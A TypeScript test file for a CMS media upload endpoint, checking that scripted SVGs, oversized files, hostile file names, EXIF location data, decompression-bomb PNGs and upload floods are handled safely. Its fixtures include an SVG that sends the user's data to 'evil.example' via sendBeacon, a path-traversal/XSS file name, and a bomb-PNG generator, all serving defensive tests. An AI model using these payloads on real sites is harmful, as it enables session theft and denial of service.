/**
 * Uploads through the REST API as an editor's browser sends them: SVG (script
 * risk) refused however it is labelled, oversized files refused with 413, file
 * names made safe, EXIF (GPS location) gone from every stored size, an image
 * declaring more pixels than the limit refused from its header alone, and
 * uploads counted per user.
 */
import fs from 'node:fs'
import path from 'node:path'
import zlib from 'node:zlib'
import type { Payload } from 'payload'
import sharp from 'sharp'
import { beforeAll, describe, expect, it } from 'vitest'

import { overrideEnv } from '../harness/env'
import { makePerson, makeRealtor, type Person } from '../harness/fixtures'
import { testPayload } from '../harness/payload'
import { rest } from '../harness/rest'

let payload: Payload
let staff: Person

beforeAll(async () => {
  payload = await testPayload()
  staff = await makePerson(payload, 'staff')
})

const SCRIPTED_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.cookie)">
  <script>fetch('/api/users/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
  <rect width="10" height="10"/>
</svg>`

function upload(bytes: Buffer | string, name: string, type: string, token = staff.token) {
  const form = new FormData()
  form.append('file', new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type }), name)
  form.append('_payload', JSON.stringify({ alt: 'upload test' }))
  return rest('POST', '/media', { token, body: form, headers: { 'Accept-Language': 'en' } })
}

/** A PNG whose header declares width x height greyscale pixels, with almost no pixel data: a decompression bomb's shape. */
function declaredPng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data])
    const length = Buffer.alloc(4)
    length.writeUInt32BE(data.length)
    const crc = Buffer.alloc(4)
    crc.writeUInt32BE(zlib.crc32(body))
    return Buffer.concat([length, body, crc])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 8 // bit depth
  header[9] = 0 // greyscale
  const rows = zlib.deflateSync(Buffer.alloc(64 * 1024))
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const mediaCount = async () => (await payload.count({ collection: 'media', overrideAccess: true })).totalDocs
const message = async (response: Response) => ((await response.json()) as { errors: { message: string }[] }).errors[0].message

describe('uploads', () => {
  it('refuses an SVG with a script, as .svg and disguised as a .png, storing nothing', async () => {
    const before = await mediaCount()
    const asSvg = await upload(SCRIPTED_SVG, 'logo.svg', 'image/svg+xml')
    expect(asSvg.status).toBe(400)
    expect(await message(asSvg)).toMatch(/invalid|not allowed|type/i)

    const disguised = await upload(SCRIPTED_SVG, 'logo.png', 'image/png')
    expect(disguised.status).toBe(400)
    expect(await mediaCount()).toBe(before)
  })

  it('refuses a file over 10 MB with 413 and says so', async () => {
    const before = await mediaCount()
    const header = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
      .png()
      .toBuffer()
    const oversized = Buffer.concat([header, Buffer.alloc(11 * 1024 * 1024)])
    const response = await upload(oversized, 'huge.png', 'image/png')
    expect(response.status).toBe(413)
    expect(await message(response)).toMatch(/larger than 10 MB/)
    expect(await mediaCount()).toBe(before)
  })

  it('stores a hostile file name as a plain, safe one', async () => {
    const image = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#123456' } })
      .png()
      .toBuffer()
    const response = await upload(image, '../../<img src=x onerror=alert(1)>.png', 'image/png')
    expect(response.status).toBe(201)
    const { doc } = (await response.json()) as { doc: { filename: string } }
    expect(doc.filename).toMatch(/^[\p{L}\p{N}_-]+\.webp$/u)
    expect(fs.existsSync(path.join(process.env.MEDIA_DIR!, doc.filename))).toBe(true)
  })

  it('keeps no EXIF location in the stored image or its sizes', async () => {
    const withGps = await sharp({ create: { width: 2200, height: 1400, channels: 3, background: '#88aa44' } })
      .jpeg()
      .withExif({ IFD0: { Make: 'PhoneMaker' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '37/1 33/1 0/1' } })
      .toBuffer()
    expect((await sharp(withGps).metadata()).exif).toBeDefined()

    const response = await upload(withGps, 'house.jpg', 'image/jpeg')
    expect(response.status).toBe(201)
    const { doc } = (await response.json()) as { doc: { filename: string; sizes: Record<string, { filename: string }> } }
    const files = [doc.filename, doc.sizes.thumbnail.filename, doc.sizes.fullsize.filename]
    for (const file of files) {
      const metadata = await sharp(path.join(process.env.MEDIA_DIR!, file)).metadata()
      expect(metadata.exif, file).toBeUndefined()
    }
  })

  it('refuses a small PNG declaring 16000 x 16000 pixels from its header, before decoding it', async () => {
    const agent = await makePerson(payload, 'agent')
    const bomb = declaredPng(16000, 16000)
    expect(bomb.length).toBeLessThan(100 * 1024)
    expect((await sharp(bomb).metadata()).width).toBe(16000)
    const before = await mediaCount()
    const response = await upload(bomb, 'bomb.png', 'image/png', agent.token)
    // Refused from the declared size in the header (the message names it), so nothing is decoded. It used to be
    // accepted after ~16 s with the server above 1.5 GB; timings are not asserted here (a loaded CI machine).
    expect(response.status).toBe(413)
    expect(await message(response)).toMatch(/16000 x 16000 pixels; at most 51 million/)
    expect(await mediaCount()).toBe(before)
  })

  it('limits uploads per signed-in user with 429 and Retry-After', async () => {
    const restore = overrideEnv({ UPLOAD_RATE_LIMIT: '1' })
    try {
      const agent = await makePerson(payload, 'agent')
      await makeRealtor(payload, { owner: agent.id })
      const image = await sharp({ create: { width: 20, height: 20, channels: 3, background: '#abcdef' } })
        .png()
        .toBuffer()
      expect((await upload(image, 'one.png', 'image/png', agent.token)).status).toBe(201)
      const second = await upload(image, 'two.png', 'image/png', agent.token)
      expect(second.status).toBe(429)
      expect(second.headers.get('Retry-After')).toMatch(/^\d+$/)
    } finally {
      restore()
    }
  })
})
